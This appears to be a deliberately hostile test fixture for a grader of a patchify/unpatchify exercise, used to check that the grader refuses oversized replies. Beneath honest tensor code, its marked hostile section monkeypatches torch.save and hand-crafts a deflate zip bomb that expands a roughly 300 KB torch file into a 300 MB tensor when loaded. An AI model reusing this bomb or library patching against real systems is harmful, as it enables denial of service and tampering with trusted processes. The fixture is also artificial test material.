"""HOSTILE fixture `huge_tensor_deflated`. Replaces torch.save in its own process so that
num_patches' reply is a torch file whose data record is deflate-compressed: about 300 KB on the
wire that inflate to a 300 MB tensor when the grader loads it (a zip bomb through the reply
channel; built by hand here, a student could ship it as a file). Honest score 4.5/6, and the
reply must be refused as over the size bound, not materialised in the trusted process.
"""
import torch


def num_patches(height, width, patch_size):
    if height % patch_size or width % patch_size:
        raise ValueError(f"({height}, {width}) is not divisible by {patch_size}")
    return (height // patch_size) * (width // patch_size)


def patchify(images, patch_size):
    if images.dim() != 4:
        raise ValueError(f"expected (B, C, H, W), got {tuple(images.shape)}")
    B, C, H, W = images.shape
    P = patch_size
    if H % P or W % P:
        raise ValueError(f"({H}, {W}) is not divisible by {P}")
    h, w = H // P, W // P
    x = images.reshape(B, C, h, P, w, P).permute(0, 2, 4, 1, 3, 5)  # (B, h, w, C, P, P)
    return x.reshape(B, h * w, C * P * P)                            # (B, N, C*P*P)


def unpatchify(tokens, patch_size, height, width):
    if tokens.dim() != 3:
        raise ValueError(f"expected (B, N, L), got {tuple(tokens.shape)}")
    B, N, L = tokens.shape
    P = patch_size
    if height % P or width % P or N != (height // P) * (width // P) or L % (P * P):
        raise ValueError(f"{N} tokens of length {L} do not fit {height}x{width}, P={P}")
    h, w, C = height // P, width // P, L // (P * P)
    x = tokens.reshape(B, h, w, C, P, P).permute(0, 3, 1, 4, 2, 5)  # (B, C, h, P, w, P)
    return x.reshape(B, C, height, width)                            # (B, C, H, W)


# ---- hostile part ----
import io
import struct
import zipfile
import zlib

N = 75_000_000  # float32 zeros: 300 MB once inflated
MARK = -4242424242
_real_save = torch.save


def _bomb():
    small = io.BytesIO()
    _real_save({"ok": True, "value": torch.zeros(70_000)}, small)
    old, new = b"J" + struct.pack("<i", 70_000), b"J" + struct.pack("<i", N)
    chunk = bytes(1 << 20)  # deflate 1 MiB of zeros once; after a full flush it repeats
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeeze.compress(chunk) + squeeze.flush(zlib.Z_FULL_FLUSH)
    assert block == squeeze.compress(chunk) + squeeze.flush(zlib.Z_FULL_FLUSH)
    full, rest = divmod(4 * N, len(chunk))
    zeros = block * full + squeeze.compress(bytes(rest)) + squeeze.flush()
    crc = 0
    for _ in range(full):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(bytes(rest), crc)
    out, central = bytearray(), bytearray()
    with zipfile.ZipFile(small) as template:
        for info in template.infolist():
            name, data = info.filename.encode(), template.read(info)
            if info.filename.endswith("data.pkl"):  # the storage and the size: N
                assert data.count(old) == 2
                data = data.replace(old, new)
            if info.filename.endswith("/data/0"):
                method, size, packed, check = 8, 4 * N, zeros, crc
            else:
                method, size, packed, check = 0, len(data), data, zlib.crc32(data)
            central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method,
                                   0, 0, check, len(packed), size, len(name), 0, 0, 0,
                                   0, 0, len(out)) + name
            out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0, check,
                               len(packed), size, len(name), 0) + name + packed
        count = len(template.infolist())
    out += central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count,
                                 len(central), len(out), 0)
    return bytes(out)


_BOMB = _bomb()


def _save(obj, f, *args, **kwargs):
    if type(obj) is dict and type(obj.get("value")) is int and obj["value"] == MARK:
        f.write(_BOMB)
        return None
    return _real_save(obj, f, *args, **kwargs)


torch.save = _save
_num_patches = num_patches


def num_patches(height, width, patch_size):
    _num_patches(height, width, patch_size)
    return MARK
